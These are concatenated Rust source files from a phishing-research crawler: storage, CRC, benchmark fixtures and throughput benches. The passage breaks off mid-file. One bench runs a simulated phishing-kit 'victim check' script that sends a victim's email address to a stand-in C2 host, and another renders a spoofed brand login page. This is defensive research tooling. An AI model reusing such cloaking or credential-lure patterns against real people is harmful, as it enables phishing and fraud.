    /// [`campaigns`](Self::campaigns) keeps across shards.
    pub fn campaign_fragment(&self, shard_base: usize) -> CampaignClusterer {
        let mut fragment = CampaignClusterer::new();
        for shard in &self.shards {
            fragment.add_index(shard_base + shard.id(), shard.index());
        }
        fragment
    }

    /// Drain the store's telemetry trace (empty unless
    /// [`StoreOptions::tracing`] was on).
    pub fn take_trace(&self) -> Trace {
        self.tracer.take()
    }

    /// Counter-derived shape summary (no I/O).
    pub fn stats(&self) -> StoreStats {
        StoreStats {
            records: self.len(),
            segments: self.shards.iter().map(Shard::segments).sum(),
            log_bytes: self.shards.iter().map(Shard::log_bytes).sum(),
            blobs: self.blobs.len(),
            shards: self.shards.len(),
            quarantined: self.shards.iter().filter(|s| !s.health().is_healthy()).count(),
            appended: self.m.append_records.get(),
            append_errors: self.m.append_errors.get(),
            commit_batches: self.m.commit_batches.get(),
            acked: self.acked,
            pending: self.pending_records,
            fsyncs: self.m.fsync_calls.get(),
            blob_dedup_hits: self.m.blob_dedup_hits.get(),
        }
    }

    /// The store's root directory.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// Durably persist an opaque named state blob under `<root>/state/`.
    ///
    /// State blobs live beside the record log (the `state/` directory is
    /// invisible to shard discovery and v1 migration) and follow the same
    /// write-tmp → rename → dir-fsync discipline as the manifest, so a
    /// crash mid-write leaves either the old bytes or the new bytes —
    /// never a torn file. Used by the adaptive crawler to checkpoint its
    /// per-campaign-family bandit policies so a re-opened store resumes
    /// the arms race where it left off.
    ///
    /// `name` must be a single path component (no separators).
    ///
    /// # Errors
    ///
    /// I/O failure, or a `name` containing path separators.
    pub fn put_state(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        if name.is_empty() || name.contains('/') || name.contains('\\') {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                format!("state name must be a bare file name, got {name:?}"),
            ));
        }
        let dir = self.root.join("state");
        self.vfs.create_dir_all(&dir)?;
        let tmp = dir.join(format!("{name}.tmp"));
        self.vfs.write(&tmp, bytes)?;
        self.vfs.fsync(&tmp)?;
        self.vfs.rename(&tmp, &dir.join(name))?;
        self.vfs.sync_dir(&dir)
    }

    /// Read back a state blob written by [`Store::put_state`].
    ///
    /// Returns `None` when the blob was never written (or its directory
    /// does not exist yet) — absence is a normal cold-start condition,
    /// not an error.
    pub fn state(&self, name: &str) -> Option<Vec<u8>> {
        self.vfs.read(&self.root.join("state").join(name)).ok()
    }
}
