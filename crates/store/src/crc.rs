//! CRC-32 (IEEE 802.3, reflected, polynomial `0xEDB88320`) over byte
//! slices — the per-frame integrity check of the segment log. Implemented
//! from the standard table-driven algorithm so the store stays free of
//! external dependencies.

/// The reflected IEEE polynomial.
const POLY: u32 = 0xEDB8_8320;

/// 256-entry lookup table, built at compile time.
const fn build_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 { POLY ^ (c >> 1) } else { c >> 1 };
            k += 1;
        }
        table[i] = c;
        i += 1;
    }
    table
}

static TABLE: [u32; 256] = build_table();

/// CRC-32 of `bytes` (IEEE, as used by zlib, PNG and Ethernet).
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut c = !0u32;
    for &b in bytes {
        c = TABLE[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8);
    }
    !c
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // The canonical check value of CRC-32/ISO-HDLC.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"a"), 0xE8B7_BE43);
    }

    #[test]
    fn sensitive_to_single_bit_flips() {
        let mut data = b"the quick brown fox".to_vec();
        let clean = crc32(&data);
        for byte in 0..data.len() {
            for bit in 0..8 {
                data[byte] ^= 1 << bit;
                assert_ne!(crc32(&data), clean, "flip at {byte}:{bit} undetected");
                data[byte] ^= 1 << bit;
            }
        }
        assert_eq!(crc32(&data), clean);
    }
}
