#![warn(missing_docs)]

//! # cb-store
//!
//! The persistent, content-addressed crawl store (DESIGN.md §11): the
//! durable record layer that turns CrawlerBox's per-run scan output into
//! the longitudinal evidence base the paper's campaign analysis mines.
//!
//! Three pieces:
//!
//! * **Record log** — an append-only sequence of segment files holding
//!   length-prefixed, CRC32-checked [frames](frame); each frame carries one
//!   [`ScanRecord`](crawlerbox::ScanRecord) in its fixed canonical encoding
//!   (the same `serde_json` byte encoding the determinism tests compare),
//!   appended in message order via [`StoreSink`] on `scan_stream`'s
//!   delivery path — so the on-disk bytes are identical across schedulers.
//! * **Blob store** — content-addressed artifact bytes (raw messages,
//!   screenshots) keyed on the pipeline's existing fnv128 hashes,
//!   deduplicating identical bytes across messages and campaigns.
//! * **Shards, recovery & queries** — the log is partitioned by
//!   content-hash prefix into independent [shards](shard), each with its
//!   own generation pointer. [`Store::open`] replays every shard in
//!   parallel over the workspace's work-stealing pool, truncates torn
//!   tails after a crash, quarantines (rather than fails on) corrupted
//!   shards, and rebuilds the per-shard [`StoreIndex`] (by domain,
//!   certificate fingerprint, screenshot phash, class and content hash);
//!   [`Store::campaigns`] reproduces the paper's campaign clustering
//!   across shards via [`CampaignClusterer`]; [`Store::known_hashes`] +
//!   [`CrawlerBox::with_known_hashes`](crawlerbox::CrawlerBox::with_known_hashes)
//!   turn a repeated scan into a cheap delta scan, and [`Store::repair`]
//!   returns a quarantined shard to service from its last valid frames.
//!
//! The ingest side has two paths (DESIGN.md §14): the owned-record
//! [`StoreSink`] oracle above, and the group-commit pipeline —
//! [`StoreEncoder`] encodes records on the scan workers,
//! [`EncodedStoreSink`] batches them, and
//! [`Store::append_batch`] fans the pre-built frames out to their shards
//! in parallel, amortizing the durable barrier over
//! [`StoreOptions::commit_batch`] records. Both paths produce
//! bit-identical logs; a record is acked only once a barrier covers it.
//!
//! Everything is plain `std` file I/O behind the [`vfs::Vfs`] seam —
//! [`vfs::FaultVfs`] injects deterministic short writes, fsync failures
//! and crash points for the crash-consistency sweep in
//! `tests/store_chaos.rs` — over the workspace's existing crates: no new
//! dependencies.
//!
//! # Example
//!
//! ```no_run
//! use cb_store::{Store, StoreSink};
//! use cb_phishgen::{Corpus, CorpusSpec};
//! use crawlerbox::CrawlerBox;
//!
//! let spec = CorpusSpec::paper().with_scale(0.01);
//! let (corpus, stream) = Corpus::stream(&spec, 2024);
//! let store = Store::open(std::path::Path::new("crawl-store")).unwrap();
//! let cbx = CrawlerBox::new(&corpus.world)
//!     .with_known_hashes(store.known_hashes()) // delta scan on reopen
//!     .with_artifact_capture(true);            // feed the blob store
//! let mut sink = StoreSink::new(store);
//! cbx.scan_stream(stream, &mut sink);
//! let (store, ()) = sink.finish().unwrap();
//! println!("{} records durable", store.len());
//! ```

pub mod blob;
pub mod crc;
pub mod encoded;
pub mod frame;
pub mod index;
pub(crate) mod metascan;
pub mod query;
pub mod segment;
pub mod shard;
pub mod sink;
pub mod store;
pub mod vfs;

pub use blob::{BlobFault, BlobStore};
pub use encoded::{encode_record, EncodedRecord, StoreEncoder};
pub use index::{url_token_scheme, RecordMeta, StoreIndex};
pub use query::{cluster_campaigns, Campaign, CampaignClusterer};
pub use shard::{shard_of, RepairReport, Shard, ShardHealth, TornTail};
pub use sink::{EncodedStoreSink, StoreSink};
pub use store::{
    CompactReport, RecoveryReport, Store, StoreOptions, StoreStats, StoreWatch, VerifyFault,
    VerifyReport,
};
pub use vfs::{FaultVfs, IoFaultKind, IoFaultPlan, RealVfs, Vfs};
