#![warn(missing_docs)]

//! Shared fixtures for the benchmark harness.
//!
//! One bench target exists per table and figure of the paper (DESIGN.md §3):
//!
//! | paper artifact | bench target |
//! |----------------|--------------|
//! | Table I        | `table1_crawler_matrix` |
//! | Table II, Figure 2, Figure 3 | `table2_figures` |
//! | §V-C1 faulty-QR bug | `faulty_qr_bug` |
//! | Figure 1 pipeline | `pipeline` |
//! | substrate hot paths | `substrates` |
//! | A1/A2 ablations | `ablations` |
//!
//! Criterion measures throughput; correctness of the regenerated numbers is
//! asserted by the test suite and the `repro` binary.

pub mod allocs;

use cb_phishgen::{Corpus, CorpusSpec, ReportedMessage};
use crawlerbox::{CrawlerBox, ScanRecord};

/// A small fixed corpus for benching (2% scale ≈ 104 messages).
pub fn bench_corpus() -> Corpus {
    Corpus::generate(&CorpusSpec::paper().with_scale(0.02), 2024)
}

/// Scan records over [`bench_corpus`].
pub fn bench_records(corpus: &Corpus) -> Vec<ScanRecord> {
    CrawlerBox::new(&corpus.world).scan_all(&corpus.messages)
}

/// A batch with deliberately skewed per-message cost for scheduler benches:
/// every artifact-carrying message (QR / image-OCR / PDF — the expensive
/// decode paths) is cloned `heavy_copies` times and clustered at the front,
/// followed by the cheap body-link and resource-free messages. Under static
/// chunking the first worker owns nearly all the heavy messages; work
/// stealing spreads them. Ids are renumbered to stay unique.
pub fn skewed_batch(corpus: &Corpus, heavy_copies: usize) -> Vec<ReportedMessage> {
    use cb_phishgen::messages::Carrier;
    let is_heavy = |m: &ReportedMessage| {
        matches!(
            m.truth.carrier,
            Carrier::QrCode { .. } | Carrier::ImageText | Carrier::PdfLink | Carrier::PdfText
        )
    };
    let mut batch: Vec<ReportedMessage> = Vec::new();
    for m in corpus.messages.iter().filter(|m| is_heavy(m)) {
        for _ in 0..heavy_copies.max(1) {
            batch.push(m.clone());
        }
    }
    batch.extend(corpus.messages.iter().filter(|m| !is_heavy(m)).cloned());
    for (i, m) in batch.iter_mut().enumerate() {
        m.id = i;
    }
    batch
}

/// One message of each §V class from the corpus, for per-class pipeline
/// benches.
pub fn one_of_each_class(corpus: &Corpus) -> Vec<&ReportedMessage> {
    use cb_phishgen::MessageClass::*;
    [NoResource, ErrorPage, InteractionRequired, Download, ActivePhish]
        .iter()
        .filter_map(|class| corpus.messages.iter().find(|m| m.truth.class == *class))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixtures_build() {
        let corpus = bench_corpus();
        assert!(!corpus.messages.len() > 0);
        let classes = one_of_each_class(&corpus);
        assert!(classes.len() >= 3);
    }
}
