//! A counting global allocator for the micro-benches.
//!
//! The zero-copy kernels (borrowed MIME views, the HTML token stream,
//! word-packed mask reductions) claim *zero steady-state allocations*; the
//! only trustworthy way to hold that claim is to count real allocator
//! calls. [`CountingAlloc`] wraps [`std::alloc::System`] and bumps a
//! thread-local counter on every `alloc`/`alloc_zeroed`/`realloc` (frees
//! are not counted — the claim is about acquisition, and counting both
//! would double-bill reallocs).
//!
//! The counter only advances in binaries that register the wrapper:
//!
//! ```ignore
//! #[global_allocator]
//! static ALLOC: cb_bench::allocs::CountingAlloc = cb_bench::allocs::CountingAlloc;
//! ```
//!
//! `substrate_micro` does; ordinary test binaries do not, and there
//! [`allocations_during`] reports 0 — callers must treat the count as
//! meaningful only behind the registration.
//!
//! Everything here is `std`-only and thread-local, so the counter imposes
//! no synchronization on the multi-threaded scheduler benches sharing the
//! process.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

/// System-allocator wrapper that counts acquisitions per thread.
pub struct CountingAlloc;

thread_local! {
    static ALLOCS: Cell<u64> = const { Cell::new(0) };
}

#[inline]
fn bump() {
    // try_with: the allocator may be called during TLS teardown.
    let _ = ALLOCS.try_with(|c| c.set(c.get() + 1));
}

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        bump();
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        bump();
        unsafe { System.alloc_zeroed(layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        bump();
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

/// Allocations recorded on this thread so far (0 unless [`CountingAlloc`]
/// is the registered global allocator).
pub fn thread_allocations() -> u64 {
    ALLOCS.try_with(Cell::get).unwrap_or(0)
}

/// Run `f` and return its result together with the number of allocator
/// acquisitions it performed on this thread.
pub fn allocations_during<R>(f: impl FnOnce() -> R) -> (R, u64) {
    let before = thread_allocations();
    let out = f();
    (out, thread_allocations() - before)
}
