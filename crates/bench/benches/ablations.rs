//! Ablation benches (DESIGN.md A1/A2): NotABot feature knock-outs against
//! the detector gauntlet, and pHash/dHash robustness under the paper's
//! perturbations.

use cb_artifacts::{Bitmap, Rgb};
use cb_browser::CrawlerProfile;
use cb_imagehash::HashPair;
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn bench_notabot_ablation(c: &mut Criterion) {
    let mut g = c.benchmark_group("ablation/notabot");
    g.bench_function("full_knockout_matrix", |b| {
        b.iter(|| black_box(crawlerbox::analysis::table1::ablation()))
    });
    for profile in CrawlerProfile::ablations() {
        g.bench_function(profile.name(), |b| {
            b.iter(|| black_box(crawlerbox::analysis::table1::evaluate_profile(profile)))
        });
    }
    g.finish();
}

fn login_page() -> Bitmap {
    let doc = cb_web::Document::parse(&cb_phishkit::Brand::Amadora.login_html(""));
    cb_web::render::rasterize(&doc, 480, 320)
}

fn bench_imagehash_ablation(c: &mut Criterion) {
    let clean = login_page();
    let reference = HashPair::of(&clean);
    let perturbations: Vec<(&str, Bitmap)> = vec![
        ("noise", clean.add_noise(7, 120)),
        ("hue_rotate_4deg", clean.hue_rotate(4.0)),
        ("scale_1_5x", clean.scale_to(720, 480)),
        ("crop_2px", clean.crop(2, 2, 476, 316)),
    ];
    let mut g = c.benchmark_group("ablation/imagehash");
    for (label, image) in &perturbations {
        g.bench_function(format!("classify_under_{label}"), |b| {
            b.iter(|| {
                let pair = HashPair::of(black_box(image));
                black_box(pair.distance(&reference))
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_notabot_ablation, bench_imagehash_ablation);
criterion_main!(benches);
