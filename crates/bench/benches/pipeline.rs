//! Figure 1 pipeline bench: end-to-end message scans by §V class, the
//! parsing phase alone, and batch throughput.

use cb_bench::{bench_corpus, one_of_each_class};
use cb_email::MimeEntity;
use crawlerbox::extract::extract_resources;
use crawlerbox::CrawlerBox;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

fn bench_scan_by_class(c: &mut Criterion) {
    let corpus = bench_corpus();
    let cbx = CrawlerBox::new(&corpus.world);
    let mut g = c.benchmark_group("pipeline/scan_by_class");
    for message in one_of_each_class(&corpus) {
        g.bench_function(format!("{:?}", message.truth.class), |b| {
            b.iter(|| black_box(cbx.scan(black_box(message))))
        });
    }
    g.finish();
}

fn bench_parse_phase(c: &mut Criterion) {
    let corpus = bench_corpus();
    let mut g = c.benchmark_group("pipeline/parse_phase");
    for message in one_of_each_class(&corpus) {
        let parsed = MimeEntity::parse(&message.raw).unwrap();
        // key by class (unique), noting the carrier — classes can share one
        g.bench_function(
            format!("extract/{:?}({:?})", message.truth.class, message.truth.carrier),
            |b| b.iter(|| black_box(extract_resources(black_box(&parsed)))),
        );
    }
    g.finish();
}

fn bench_batch_throughput(c: &mut Criterion) {
    let corpus = bench_corpus();
    let batch = &corpus.messages[..24.min(corpus.messages.len())];
    let mut g = c.benchmark_group("pipeline/batch");
    g.throughput(Throughput::Elements(batch.len() as u64));
    g.sample_size(10);
    g.bench_function("end_to_end_24_messages", |b| {
        let cbx = CrawlerBox::new(&corpus.world);
        b.iter(|| black_box(cbx.scan_all(black_box(batch))))
    });
    g.finish();
}

criterion_group!(benches, bench_scan_by_class, bench_parse_phase, bench_batch_throughput);
criterion_main!(benches);
