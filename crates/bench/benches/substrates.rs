//! Substrate hot-path benches: the primitives everything else is built on.

use cb_artifacts::{Bitmap, Rgb};
use cb_email::codec::{base64_decode, base64_encode};
use cb_email::MimeEntity;
use cb_imagehash::{dhash, phash};
use cb_qr::reed_solomon;
use cb_script::{hosts::RecordingHost, run, Script};
use cb_web::{render, Document};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

fn bench_codecs(c: &mut Criterion) {
    let data = vec![0xA7u8; 4096];
    let encoded = base64_encode(&data);
    let mut g = c.benchmark_group("substrate/base64");
    g.throughput(Throughput::Bytes(data.len() as u64));
    g.bench_function("encode_4k", |b| b.iter(|| black_box(base64_encode(black_box(&data)))));
    g.bench_function("decode_4k", |b| {
        b.iter(|| black_box(base64_decode(black_box(&encoded)).unwrap()))
    });
    g.finish();
}

fn bench_reed_solomon(c: &mut Criterion) {
    let data: Vec<u8> = (0..100u8).collect();
    let parity = reed_solomon::encode(&data, 30);
    let clean: Vec<u8> = data.iter().chain(&parity).copied().collect();
    let mut damaged = clean.clone();
    for i in [3usize, 17, 42, 88, 101, 115] {
        damaged[i] ^= 0x5A;
    }
    let mut g = c.benchmark_group("substrate/reed_solomon");
    g.bench_function("encode_100_30", |b| {
        b.iter(|| black_box(reed_solomon::encode(black_box(&data), 30)))
    });
    g.bench_function("correct_clean", |b| {
        b.iter(|| {
            let mut cw = clean.clone();
            black_box(reed_solomon::correct(&mut cw, 30).unwrap())
        })
    });
    g.bench_function("correct_6_errors", |b| {
        b.iter(|| {
            let mut cw = damaged.clone();
            black_box(reed_solomon::correct(&mut cw, 30).unwrap())
        })
    });
    g.finish();
}

fn bench_mime(c: &mut Criterion) {
    let raw = cb_email::MessageBuilder::new()
        .from("a@x.example")
        .to("b@y.example")
        .subject("bench")
        .text_body(&"lorem ipsum dolor sit amet ".repeat(40))
        .html_body("<p>hello</p>")
        .attach("blob.bin", "application/octet-stream", &vec![7u8; 2048])
        .build();
    let mut g = c.benchmark_group("substrate/mime");
    g.throughput(Throughput::Bytes(raw.len() as u64));
    g.bench_function("parse_multipart", |b| {
        b.iter(|| black_box(MimeEntity::parse(black_box(&raw)).unwrap()))
    });
    g.finish();
}

fn bench_imagehash(c: &mut Criterion) {
    let mut img = Bitmap::new(480, 320, Rgb::WHITE);
    img.fill_rect(0, 0, 480, 40, Rgb::new(0, 60, 180));
    img.fill_rect(80, 120, 320, 20, Rgb::new(220, 220, 220));
    let mut g = c.benchmark_group("substrate/imagehash");
    g.bench_function("phash_480x320", |b| b.iter(|| black_box(phash(black_box(&img)))));
    g.bench_function("dhash_480x320", |b| b.iter(|| black_box(dhash(black_box(&img)))));
    g.finish();
}

fn bench_web(c: &mut Criterion) {
    let html = cb_phishkit::Brand::Amadora.login_html("");
    let doc = Document::parse(&html);
    let mut g = c.benchmark_group("substrate/web");
    g.bench_function("parse_login_page", |b| {
        b.iter(|| black_box(Document::parse(black_box(&html))))
    });
    g.bench_function("rasterize_480x320", |b| {
        b.iter(|| black_box(render::rasterize(black_box(&doc), 480, 320)))
    });
    g.finish();
}

fn bench_mjs(c: &mut Criterion) {
    let src = cb_phishkit::scripts::victim_db_check("https://c2.example");
    let script = Script::parse(&src).unwrap();
    let mut g = c.benchmark_group("substrate/mjs");
    g.bench_function("parse_victim_check", |b| {
        b.iter(|| black_box(Script::parse(black_box(&src)).unwrap()))
    });
    g.bench_function("run_victim_check", |b| {
        b.iter(|| {
            let mut host = RecordingHost::new();
            host.set_env(
                "location.search",
                cb_script::Value::from("?victim=v@corp.example"),
            );
            host.set_response("https://c2.example/check-victim", "yes");
            black_box(run(&script, &mut host).unwrap())
        })
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_codecs,
    bench_reed_solomon,
    bench_mime,
    bench_imagehash,
    bench_web,
    bench_mjs
);
criterion_main!(benches);
