//! Table II / Figure 2 / Figure 3 benches: the analysis computations that
//! regenerate the paper's distributional results over scan records.

use cb_bench::{bench_corpus, bench_records};
use crawlerbox::analysis::{figures, tables};
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn bench_analyses(c: &mut Criterion) {
    let corpus = bench_corpus();
    let records = bench_records(&corpus);

    let mut g = c.benchmark_group("analysis");
    g.bench_function("table2_tld_distribution", |b| {
        b.iter(|| black_box(tables::table2(black_box(&records))))
    });
    g.bench_function("figure2_monthly_volume", |b| {
        b.iter(|| black_box(figures::figure2(black_box(&records))))
    });
    g.bench_function("figure3_timedeltas", |b| {
        b.iter(|| black_box(figures::figure3(black_box(&records))))
    });
    g.bench_function("class_mix", |b| {
        b.iter(|| black_box(tables::ClassMix::of(black_box(&records))))
    });
    g.bench_function("spear_stats", |b| {
        b.iter(|| black_box(tables::spear_stats(black_box(&records))))
    });
    g.bench_function("cloaking_prevalence", |b| {
        b.iter(|| {
            black_box(crawlerbox::analysis::cloaking::prevalence(black_box(
                &records,
            )))
        })
    });
    g.bench_function("t_test", |b| {
        let f2 = figures::figure2(&records);
        let y2023 = corpus.spec.monthly_2023;
        b.iter(|| black_box(figures::volume_t_test(black_box(&y2023), black_box(&f2))))
    });
    g.finish();
}

fn bench_lexical(c: &mut Criterion) {
    let corpus = bench_corpus();
    let names: Vec<String> = corpus
        .campaigns
        .iter()
        .map(|cmp| cmp.domain.name.clone())
        .collect();
    c.bench_function("analysis/lexical_522_domains", |b| {
        b.iter(|| {
            black_box(crawlerbox::analysis::lexical::analyze_domains(
                names.iter().map(String::as_str),
            ))
        })
    });
}

criterion_group!(benches, bench_analyses, bench_lexical);
criterion_main!(benches);
