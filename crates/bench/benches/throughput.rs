//! Pipeline throughput baseline: serial vs static-chunk vs work-stealing
//! scheduling, with the deterministic caches off and on, over a batch with
//! deliberately skewed per-message cost (DESIGN.md §8).
//!
//! This is a plain-`main` bench (no criterion) so it can emit the machine-
//! readable `BENCH_pipeline.json` consumed by CI. Run modes:
//!
//! ```text
//! cargo bench --bench throughput                    # full run, 3 iters/arm
//! cargo bench --bench throughput -- --smoke         # 1 iter/arm (CI)
//! cargo bench --bench throughput -- --out out.json  # choose output path
//! ```
//!
//! Besides timing, every arm's records are asserted byte-identical (via
//! JSON serialization) to the serial cache-free reference — the bench
//! doubles as a determinism check on exactly the batch shape the
//! schedulers disagree about most.
//!
//! The store section exercises the group-commit ingest pipeline
//! (DESIGN.md §14): the overhead arm runs the encoded path at commit
//! batch 256 over 4 shards against the < 15% persistence-overhead
//! target, and the `ingest_arms` grid sweeps commit batch {1, 16, 256}
//! × shards {1, 4, 8} in durable mode, asserting < 1.0 fsyncs/record
//! whenever the batch is ≥ 16 — so the CI smoke run is the gate.

use cb_bench::{bench_corpus, skewed_batch};
use cb_sim::SimTime;
use cb_store::{EncodedStoreSink, Store, StoreEncoder, StoreOptions, StoreSink};
use crawlerbox::{CrawlerBox, ScanRecord, Scheduler};
use std::time::Instant;

/// Heavy-message clone factor for the skewed batch.
const HEAVY_COPIES: usize = 4;

/// Worker threads for the parallel schedulers.
const WORKERS: usize = 4;

struct ArmResult {
    scheduler: &'static str,
    caches: bool,
    iters: usize,
    secs: f64,
    msgs_per_sec: f64,
}

/// A memory-vs-throughput arm of the streaming pipeline: same batch, driven
/// through `scan_stream` at a fixed admission-window capacity, with the
/// residency gauges recorded alongside the rate.
struct StreamArm {
    scheduler: &'static str,
    capacity: usize,
    iters: usize,
    secs: f64,
    msgs_per_sec: f64,
    peak_in_flight: u64,
    peak_bytes_retained: u64,
    residency_bound: u64,
}

/// One recovery-replay arm: cold reopen of a persisted log at a given
/// shard fan-out (segment replay + index rebuild over the recovery pool).
struct RecoveryArm {
    shards: usize,
    records: usize,
    secs: f64,
    records_per_sec: f64,
}

/// One group-commit ingest arm: the encoded pipeline (worker-side
/// encoding, batched durable barriers, parallel shard fan-out) at a given
/// commit batch size × shard count, in durable ingest mode.
struct IngestArm {
    commit_batch: usize,
    shards: usize,
    iters: usize,
    records: usize,
    secs: f64,
    msgs_per_sec: f64,
    fsyncs_per_record: f64,
}

/// Commit batch × shard count of the store-overhead arm: the headline
/// configuration the < 15% persistence-overhead target is measured at.
const OVERHEAD_COMMIT_BATCH: usize = 256;
const OVERHEAD_SHARDS: usize = 4;

/// Messages per simulated second in the soak arm: 12/s × 86400 s/day
/// = 1,036,800 msgs/day simulated, just over the 1M/day target.
const SOAK_MSGS_PER_SIM_SEC: u64 = 12;

/// One round of the sim-time soak: the same long-lived pipeline + store
/// ingests a fresh (content-unique) batch, and resident memory is
/// sampled after the durable barrier.
struct SoakRound {
    round: usize,
    messages: usize,
    secs: f64,
    msgs_per_sec: f64,
    rss_bytes: u64,
}

/// Resident set size in bytes from `/proc/self/statm` (Linux). Returns 0
/// where the file is unavailable; the memory-bound assertion is skipped
/// in that case rather than faked.
fn resident_bytes() -> u64 {
    std::fs::read_to_string("/proc/self/statm")
        .ok()
        .and_then(|s| s.split_whitespace().nth(1).and_then(|f| f.parse::<u64>().ok()))
        .map(|pages| pages * 4096)
        .unwrap_or(0)
}

fn scheduler_name(s: Scheduler) -> &'static str {
    match s {
        Scheduler::Serial => "serial",
        Scheduler::StaticChunk => "static_chunk",
        Scheduler::WorkStealing => "work_stealing",
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().collect();
    let smoke = argv.iter().any(|a| a == "--smoke");
    let out_path = argv
        .iter()
        .position(|a| a == "--out")
        .and_then(|i| argv.get(i + 1))
        .cloned()
        .unwrap_or_else(|| "BENCH_pipeline.json".to_string());
    let iters = if smoke { 1 } else { 3 };

    let corpus = bench_corpus();
    let batch = skewed_batch(&corpus, HEAVY_COPIES);
    eprintln!(
        "throughput bench: {} messages ({} corpus messages, heavy x{HEAVY_COPIES}), {iters} iter(s)/arm",
        batch.len(),
        corpus.messages.len(),
    );

    // Serial cache-free reference: the identity baseline for every arm.
    // The sorted per-record form is for the store arms, whose read-back
    // order is shard-major rather than batch order.
    let (reference_json, reference_sorted) = {
        let cbx = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::Serial)
            .with_caching(false);
        let records = cbx.scan_all(&batch);
        let json = serde_json::to_string(&records).expect("serialize reference");
        let mut sorted: Vec<String> = records
            .iter()
            .map(|r| serde_json::to_string(r).expect("serialize reference record"))
            .collect();
        sorted.sort();
        (json, sorted)
    };

    let arms = [
        (Scheduler::Serial, false),
        (Scheduler::StaticChunk, false),
        (Scheduler::WorkStealing, false),
        (Scheduler::Serial, true),
        (Scheduler::StaticChunk, true),
        (Scheduler::WorkStealing, true),
    ];

    let mut results: Vec<ArmResult> = Vec::new();
    for &(scheduler, caches) in &arms {
        let workers = if scheduler == Scheduler::Serial { 1 } else { WORKERS };
        let mut secs = 0.0f64;
        let mut first_json: Option<String> = None;
        for _ in 0..iters {
            // Fresh box per iteration: lifetime caches start cold, so every
            // iteration measures the same work.
            let mut cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_caching(caches);
            cbx.parallelism = workers;
            let started = Instant::now();
            let records = cbx.scan_all(&batch);
            secs += started.elapsed().as_secs_f64();
            if first_json.is_none() {
                first_json = Some(serde_json::to_string(&records).expect("serialize records"));
            }
        }
        assert_eq!(
            first_json.as_deref(),
            Some(reference_json.as_str()),
            "{} caches={caches} produced different records than serial cache-free",
            scheduler_name(scheduler),
        );
        let msgs = (batch.len() * iters) as f64;
        let r = ArmResult {
            scheduler: scheduler_name(scheduler),
            caches,
            iters,
            secs,
            msgs_per_sec: if secs > 0.0 { msgs / secs } else { f64::INFINITY },
        };
        eprintln!(
            "  {:>13} caches={:<5} {:8.3}s  {:9.1} msgs/sec",
            r.scheduler, r.caches, r.secs, r.msgs_per_sec
        );
        results.push(r);
    }

    let rate = |scheduler: &str, caches: bool| {
        results
            .iter()
            .find(|r| r.scheduler == scheduler && r.caches == caches)
            .map(|r| r.msgs_per_sec)
            .unwrap_or(f64::NAN)
    };
    let speedup = rate("work_stealing", true) / rate("static_chunk", false);
    eprintln!("speedup (work_stealing+caches over static_chunk uncached): {speedup:.2}x");

    // Streaming arms: the same batch through `scan_stream` (caches on) at
    // different window capacities. Each arm asserts record identity against
    // the serial cache-free reference AND that residency stayed within
    // capacity + workers — the bench doubles as the bounded-memory check.
    let stream_arms = [
        (Scheduler::Serial, 32usize),
        (Scheduler::StaticChunk, 32),
        (Scheduler::WorkStealing, 4),
        (Scheduler::WorkStealing, 32),
    ];
    let mut stream_results: Vec<StreamArm> = Vec::new();
    for &(scheduler, capacity) in &stream_arms {
        let workers = if scheduler == Scheduler::Serial { 1 } else { WORKERS };
        let bound = (capacity + workers) as u64;
        let mut secs = 0.0f64;
        let mut first_json: Option<String> = None;
        let mut peak_in_flight = 0u64;
        let mut peak_bytes_retained = 0u64;
        for _ in 0..iters {
            let mut cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_caching(true)
                .with_stream_capacity(capacity);
            cbx.parallelism = workers;
            let mut records: Vec<ScanRecord> = Vec::with_capacity(batch.len());
            let started = Instant::now();
            cbx.scan_stream(batch.iter().cloned(), &mut records);
            secs += started.elapsed().as_secs_f64();
            let stats = cbx.stats();
            assert!(
                stats.peak_in_flight <= bound,
                "{} capacity={capacity}: peak in-flight {} exceeds bound {bound}",
                scheduler_name(scheduler),
                stats.peak_in_flight,
            );
            peak_in_flight = peak_in_flight.max(stats.peak_in_flight);
            peak_bytes_retained = peak_bytes_retained.max(stats.peak_bytes_retained);
            if first_json.is_none() {
                first_json = Some(serde_json::to_string(&records).expect("serialize records"));
            }
        }
        assert_eq!(
            first_json.as_deref(),
            Some(reference_json.as_str()),
            "stream {} capacity={capacity} produced different records than serial cache-free",
            scheduler_name(scheduler),
        );
        let msgs = (batch.len() * iters) as f64;
        let r = StreamArm {
            scheduler: scheduler_name(scheduler),
            capacity,
            iters,
            secs,
            msgs_per_sec: if secs > 0.0 { msgs / secs } else { f64::INFINITY },
            peak_in_flight,
            peak_bytes_retained,
            residency_bound: bound,
        };
        eprintln!(
